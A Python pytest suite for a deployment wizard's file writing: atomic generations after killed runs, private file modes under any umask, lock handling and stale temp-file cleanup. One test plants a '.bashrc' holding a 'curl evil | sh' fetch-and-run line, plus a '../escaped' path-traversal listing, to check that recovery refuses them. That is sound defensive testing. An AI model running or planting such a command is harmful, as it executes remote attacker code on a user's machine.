"""Files at rest: a folder the wizard writes holds one generation (all the old files or all the new), also when a run
is killed mid-write; whatever a killed run left is settled by the next run or reader; every file that can hold a
secret is 0600 (install.sh 0700) in folders the wizard creates 0700, whatever the umask."""

from __future__ import annotations

import errno
import fcntl
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from wizard import cli
from wizard.core import files, journal
from wizard.core.errors import OutputError
from wizard.frontend import resume
from wizard.planning.layers import build_plan, plan_layers
from wizard.writing import output

PASSWORD = "hunter2-planted-secret"


def _sets(generation: str) -> list[str]:
    """A Plan whose every file names its generation (the namespaces appear in each file)."""
    return [f"target.orchestrator.namespace={generation}", f"target.backend.namespace={generation}"]


def _args(generation: str, out: Path, *more: str) -> list[str]:
    sets = [arg for value in _sets(generation) for arg in ("--set", value)]
    return ["--preset", "minimal", *sets, "--non-interactive", "--out", str(out), *more]


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def _secret_modes(prefix: str = "", *, backend: bool = True, orchestrator: bool = True) -> dict[str, int]:
    """secrets/ as a run writes it: the folder 0700, each file 0600."""
    names = (["orchestrator-secrets.yaml"] if orchestrator else []) + (
        ["substra-backend-secrets.yaml", "substra-backend-credentials.values"] if backend else [])
    return {f"{prefix}secrets": 0o700, **{f"{prefix}secrets/{name}": 0o600 for name in names}}


def _modes(folder: Path) -> dict[str, int]:
    """Every entry below `folder` (hidden ones included) with its permission bits."""
    found = {".": stat.S_IMODE(folder.lstat().st_mode)}
    for path in folder.rglob("*"):
        found[str(path.relative_to(folder))] = stat.S_IMODE(path.lstat().st_mode)
    return found


@pytest.fixture(scope="module")
def generations(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, bytes]]:
    """The files of generations gen-a and gen-b, each written once into a fresh folder."""
    found = {}
    for name in ("gen-a", "gen-b"):
        folder = tmp_path_factory.mktemp(name) / "out"
        assert cli.main(_args(name, folder)) == 0
        found[name] = _snapshot(folder)
    assert found["gen-a"].keys() == found["gen-b"].keys()
    assert all(found["gen-a"][n] != found["gen-b"][n] for n in found["gen-a"])
    return found


# --- modes ----------------------------------------------------------------------------------------------------------


def _run(argv: list[str], cwd: Path, umask: int, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "wizard", *argv], cwd=cwd, umask=umask, capture_output=True,
                          text=True, timeout=120, env={**os.environ, **(env or {})})


@pytest.mark.parametrize("umask", [0o000, 0o022])
def test_every_file_is_private_in_private_folders_whatever_the_umask(tmp_path: Path, umask: int) -> None:
    """Values and answers files carry imported credentials: 0600, install.sh 0700, each folder created 0700 (the
    parents too); a folder that was there keeps its mode. Same for import --out and bundle --out."""
    values = tmp_path / "customer.yaml"
    values.write_text(f"server:\n  defaultDomain: org.example\ncustomThing:\n  password: {PASSWORD}\n")
    done = _run(["--preset", "minimal", "--non-interactive", "--out", "new/deploy"], tmp_path, umask)
    assert done.returncode == 0, done.stderr
    assert _modes(tmp_path / "new") == {".": 0o700, "deploy": 0o700, "deploy/install.sh": 0o700,
                                        "deploy/orchestrator-values.yaml": 0o600,
                                        "deploy/substra-backend-values.yaml": 0o600,
                                        "deploy/wizard-answers.yaml": 0o600, **_secret_modes("deploy/")}
    done = _run(["import", "--values", f"substra-backend={values}", "--out", "imported"], tmp_path, umask)
    assert done.returncode == 0, done.stderr
    assert PASSWORD in (tmp_path / "imported" / "wizard-answers.yaml").read_text()
    assert _modes(tmp_path / "imported") == {".": 0o700, "install.sh": 0o700, "substra-backend-values.yaml": 0o600,
                                             "wizard-answers.yaml": 0o600, **_secret_modes(orchestrator=False)}
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o755)
    done = _run(["--preset", "minimal", "--non-interactive", "--out", "shared"], tmp_path, umask)
    assert done.returncode == 0, done.stderr
    assert _modes(shared)["."] == 0o755  # not the wizard's folder: its mode is the operator's business
    assert {mode for name, mode in _modes(shared).items() if name != "."} <= {0o600, 0o700}
    done = _run(["bundle", "--values", f"substra-backend={values}", "--out", "support.tar.gz"], tmp_path, umask)
    assert done.returncode == 0, done.stderr
    assert stat.S_IMODE((tmp_path / "support.tar.gz").stat().st_mode) == 0o600


def test_an_existing_wide_file_written_again_becomes_private(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    """A folder an older version wrote (0644 files): the next run narrows each file to 0600, also one whose text
    does not change, and keeps the folder's own mode."""
    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    out.chmod(0o755)
    for path in out.iterdir():
        path.chmod(0o644 if path.suffix == ".yaml" else 0o755)
    assert cli.main(_args("gen-a", out)) == 0
    assert "unchanged" in capsys.readouterr().out
    assert _modes(out) == {".": 0o755, "install.sh": 0o700, "orchestrator-values.yaml": 0o600,
                           "substra-backend-values.yaml": 0o600, "wizard-answers.yaml": 0o600,
                           **_secret_modes()}  # the credentials' folder is narrowed back to 0700
    (out / "orchestrator-values.yaml").chmod(0o666)
    assert cli.main(_args("gen-b", out)) == 0  # rewritten
    assert stat.S_IMODE((out / "orchestrator-values.yaml").stat().st_mode) == 0o600


def test_the_draft_is_private_under_umask_000(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    old = os.umask(0)
    try:
        resume.save({"target": {"backend": {"namespace": "x"}}})
    finally:
        os.umask(old)
    draft = resume.draft_path()
    assert stat.S_IMODE(draft.stat().st_mode) == 0o600
    assert stat.S_IMODE(draft.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "state").stat().st_mode) == 0o700  # created by the wizard too
    draft.parent.chmod(0o755)  # as an older version left it: the wizard's own folder is narrowed
    stale = draft.with_name(f".{draft.name}.0badc0de.tmp")
    stale.write_text("plan: {}\n")
    resume.save({"target": {"backend": {"namespace": "y"}}})
    assert stat.S_IMODE(draft.parent.stat().st_mode) == 0o700
    assert sorted(p.name for p in draft.parent.iterdir()) == [draft.name]


def test_the_dry_run_gives_helm_private_files_and_removes_them_even_on_error(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """--dry-run renders the values files into a temporary folder for Helm: 0700, the files 0600, gone after an
    error."""
    from wizard.commands import install
    from wizard.core.errors import WizardError

    class Checked:
        findings: list = []

    seen: dict[str, object] = {}

    def fake_install(plan: object, checked: object, values_dir: Path, out: object, **_: object) -> int:
        seen["dir"], seen["modes"] = values_dir, _modes(values_dir)
        raise WizardError("helm went away")

    monkeypatch.setattr(install, "check", lambda *a, **k: Checked())
    monkeypatch.setattr(install, "print_check", lambda *a: None)
    monkeypatch.setattr(install, "install_checked", fake_install)
    old = os.umask(0)
    try:
        with pytest.raises(WizardError, match="helm went away"):
            install.run(build_plan(plan_layers("minimal", None, [])), None, yes=True, dry_run=True)
    finally:
        os.umask(old)
    modes = seen["modes"]
    assert isinstance(modes, dict) and modes.pop(".") == 0o700
    assert modes == {"install.sh": 0o700, "orchestrator-values.yaml": 0o600, "substra-backend-values.yaml": 0o600,
                     "wizard-answers.yaml": 0o600, **_secret_modes()}
    assert not Path(str(seen["dir"])).exists()


# --- interrupted writes: a SIGKILL at an exact point of the write ---------------------------------------------------

_CHILD = """
import os, signal, sys
from wizard import cli
from wizard.core import files

point, argv = sys.argv[1], sys.argv[2:]
die = lambda *paths: None if any("/secrets/" in str(p) for p in paths) else os.kill(os.getpid(), signal.SIGKILL)
# secrets/ is its own generation, written first: the kill points are those of the values folder.
if point == "staged":  # the first file is staged, nothing committed
    real_new = files.write_new
    files.write_new = lambda *a, **k: (real_new(*a, **k), die(a[0]))
elif point == "committed":  # the list is in place, no file moved yet
    real_rename = os.rename
    os.rename = lambda a, b: (real_rename(a, b), die(a, b))
elif point == "one-moved":  # committed, and one file already in place
    real_replace = os.replace
    os.replace = lambda a, b: (real_replace(a, b), die(a, b))
sys.exit(cli.main(argv))
"""


def _killed_at(point: str, argv: list[str]) -> None:
    done = subprocess.run([sys.executable, "-c", _CHILD, point, *argv], capture_output=True, text=True, timeout=120)
    assert done.returncode == -9, done.stderr


EXPECTED = {"staged": ("gen-a", "removed the unfinished write of an interrupted run"),
            "committed": ("gen-b", "finished the write of an interrupted run"),
            "one-moved": ("gen-b", "finished the write of an interrupted run")}


@pytest.mark.parametrize("point", EXPECTED)
@pytest.mark.parametrize("next_command", ["reader", "writer"])
def test_a_killed_write_is_undone_or_finished_by_the_next_command(
        tmp_path: Path, generations: dict[str, dict[str, bytes]], capsys: pytest.CaptureFixture[str],
        point: str, next_command: str) -> None:
    """Killed before the commit: the next command removes the staged files (the folder is the old generation);
    killed after it: the next command finishes the renames (the new generation). Either says what it did. A reader
    (an answers file read from the folder, wizard diff dir:) settles the folder before reading it."""
    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    _killed_at(point, _args("gen-b", out))
    assert (out / journal.STAGING).is_dir()
    assert all(mode & 0o077 == 0 for mode in _modes(out).values())  # staged copies are private too
    if point == "staged":
        assert _snapshot(out) == generations["gen-a"]
    capsys.readouterr()
    if next_command == "reader":
        plan_layers(None, out / "wizard-answers.yaml", [])
    else:
        assert cli.main(_args("gen-a" if point == "staged" else "gen-b", out)) == 0
    generation, said = EXPECTED[point]
    assert said in capsys.readouterr().err
    assert sorted(p.name for p in out.iterdir() if p.name != "secrets") == sorted(generations[generation])
    assert _snapshot(out) == generations[generation]


def test_diff_of_a_folder_settles_it_first(tmp_path: Path, generations: dict[str, dict[str, bytes]],
                                          capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    _killed_at("one-moved", _args("gen-b", out))
    mixed = _snapshot(out)
    assert mixed != generations["gen-a"] and mixed != generations["gen-b"]  # what a reader must never see
    assert cli.main(["diff", f"dir:{out}", "preset:minimal"]) in (0, 1)
    assert "finished the write of an interrupted run" in capsys.readouterr().err
    assert _snapshot(out) == generations["gen-b"]


def test_the_backup_belongs_to_the_same_generation(tmp_path: Path, generations: dict[str, dict[str, bytes]],
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """--force keeps an edited answers file as .bak: the .bak and the new files land together, or not at all."""
    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    edited = generations["gen-a"]["wizard-answers.yaml"] + b"# my note\n"
    (out / "wizard-answers.yaml").write_bytes(edited)
    _killed_at("one-moved", _args("gen-b", out, "--force"))
    assert cli.main(["why", "target.backend.namespace", "--answers", str(out / "wizard-answers.yaml")]) == 0
    assert "finished the write of an interrupted run" in capsys.readouterr().err
    assert _snapshot(out) == {**generations["gen-b"], "wizard-answers.yaml.bak": edited}
    assert stat.S_IMODE((out / "wizard-answers.yaml.bak").stat().st_mode) == 0o600


# --- what older versions and other programs leave ------------------------------------------------------------------


def test_temporary_files_of_older_versions_are_removed_and_a_live_one_is_kept(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Older versions wrote `.NAME.xxxxxxxx.tmp` beside each file; a SIGKILL left them (a complete copy holding an
    imported password, 0644). The next run removes them and says so; a temporary file of a write in progress (it
    holds its lock) and files that are not the wizard's stay."""
    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    stale = out / ".wizard-answers.yaml.0badc0de.tmp"
    stale.write_text(f"password: {PASSWORD}\n")
    live = out / ".install.sh.12345678.tmp"
    live.write_text("#!/bin/sh\n")
    theirs = out / ".notes.txt.0badc0de.tmp"
    theirs.write_text("mine\n")
    capsys.readouterr()
    with live.open() as handle:
        fcntl.flock(handle, fcntl.LOCK_EX)
        assert cli.main(_args("gen-b", out)) == 0
    err = capsys.readouterr().err
    assert "removed 1 temporary file(s) left by an interrupted run: .wizard-answers.yaml.0badc0de.tmp" in err
    assert not stale.exists() and live.exists() and theirs.exists()
    live.unlink()
    plan_layers(None, out / "wizard-answers.yaml", [])  # a reader removes them too
    assert theirs.exists()


def test_a_second_writer_is_refused_while_the_first_writes(tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    before = _snapshot(out)
    fd = os.open(out, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)  # what a running wizard holds while it writes the folder
        assert cli.main(_args("gen-b", out)) == 2
    finally:
        os.close(fd)
    assert f"Another wizard is writing {out} right now; nothing was written" in capsys.readouterr().err
    assert _snapshot(out) == before


def test_a_file_changed_between_planning_and_writing_stops_the_write(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    planned = output.plan_files(build_plan(plan_layers("minimal", None, [])), out)
    (out / "install.sh").write_text("#!/bin/sh\necho edited meanwhile\n")
    with pytest.raises(OutputError, match=r"(?s)changed while the wizard was preparing.*install\.sh.*Nothing was"):
        output.write_files(planned)
    assert (out / "install.sh").read_text() == "#!/bin/sh\necho edited meanwhile\n"
    assert not (out / journal.STAGING).exists()


@pytest.mark.parametrize("listing", [["../escaped"], [".bashrc"], "not a list", ["wizard-answers.yaml", 3]])
def test_a_crafted_staging_folder_moves_nothing(tmp_path: Path, listing: object) -> None:
    """A committed list that names anything but the run's own files (a path out of the folder, a dotfile) is refused
    whole: recovery only ever puts the wizard's files in place."""
    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    before = _snapshot(out)
    staging = out / journal.STAGING
    staging.mkdir()
    (staging / ".bashrc").write_text("curl evil | sh\n")
    (staging / journal.COMMITTED).write_text(json.dumps(listing))
    with pytest.raises(OutputError, match=r"committed is not a list the wizard wrote"):
        journal.settle(out)
    assert cli.main(_args("gen-b", out)) == 2
    assert _snapshot(out) == before and not (tmp_path / "escaped").exists()


def test_something_else_at_the_staging_name_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / journal.STAGING).write_text("not a folder\n")
    assert cli.main(_args("gen-a", out)) == 2
    assert f"{out / journal.STAGING} is in the way" in capsys.readouterr().err


@pytest.mark.parametrize("failure", [OSError(errno.ENOSPC, "No space left on device"), KeyboardInterrupt()])
def test_a_failure_while_staging_leaves_the_old_generation_and_no_staging(
        tmp_path: Path, generations: dict[str, dict[str, bytes]], monkeypatch: pytest.MonkeyPatch,
        failure: BaseException) -> None:
    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    real, calls = files.write_new, []

    def second_fails(*args: object, **kwargs: object) -> None:
        calls.append(args)
        if len(calls) == 2:
            raise failure
        real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(files, "write_new", second_fails)
    planned = output.plan_files(build_plan(plan_layers("minimal", None, _sets("gen-b"))), out)
    with pytest.raises(OutputError if isinstance(failure, OSError) else KeyboardInterrupt) as caught:
        output.write_files(planned)
    if isinstance(failure, OSError):
        assert "the disk is full" in str(caught.value) and "Nothing was written" in str(caught.value)
    assert _snapshot(out) == generations["gen-a"]
    assert sorted(p.name for p in out.iterdir() if p.name != "secrets") == sorted(generations["gen-a"])


def test_make_dirs_creates_private_folders_and_keeps_existing_ones(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir(mode=0o755)
    (tmp_path / "a").chmod(0o755)
    old = os.umask(0o277)  # would leave a folder the wizard cannot write into
    try:
        created = files.make_dirs(tmp_path / "a" / "b" / "c")
    finally:
        os.umask(old)
    assert created == [tmp_path / "a" / "b", tmp_path / "a" / "b" / "c"]
    assert _modes(tmp_path / "a") == {".": 0o755, "b": 0o700, "b/c": 0o700}


def test_every_file_a_run_writes_is_one_the_journal_knows() -> None:
    """Recovery moves only RUN_FILES: each file any preset's run writes (and its .bak) must be among them."""
    from wizard.planning import presets

    names = set()
    for preset in presets.names():
        for item in output.plan_files(build_plan(plan_layers(preset, None, [])), Path("/nonexistent-folder")):
            names |= {item.path.name} | ({item.path.name + ".bak"} if item.path.parent.name != "secrets" else set())
    assert names <= journal.RUN_FILES
    assert set(output.ALL_VALUES_FILES) <= journal.RUN_FILES


def test_a_run_that_changes_nothing_writes_nothing(tmp_path: Path) -> None:
    """Every file unchanged: no staging, no rename, the folder untouched (a read-only folder stays usable)."""
    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    before = os.stat(out).st_mtime_ns
    assert cli.main(_args("gen-a", out)) == 0
    assert os.stat(out).st_mtime_ns == before


def test_a_reader_waits_for_the_writer_then_settles(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """A reader that finds an unfinished write while a wizard holds the folder waits for it (a write takes
    milliseconds), then settles; past READER_WAIT_SECONDS it says so."""
    import threading
    import time

    out = tmp_path / "out"
    assert cli.main(_args("gen-a", out)) == 0
    (out / journal.STAGING).mkdir()
    fd = os.open(out, os.O_RDONLY)
    fcntl.flock(fd, fcntl.LOCK_EX)
    monkeypatch.setattr(journal, "READER_WAIT_SECONDS", 0.2)
    with pytest.raises(OutputError, match=r"Another wizard has been writing .* for 0.2 s"):
        journal.settle(out)
    threading.Timer(0.3, os.close, (fd,)).start()
    monkeypatch.setattr(journal, "READER_WAIT_SECONDS", 10.0)
    started = time.monotonic()
    journal.settle(out)
    assert time.monotonic() - started >= 0.25
    assert not (out / journal.STAGING).exists()
    assert "removed the unfinished write" in capsys.readouterr().err
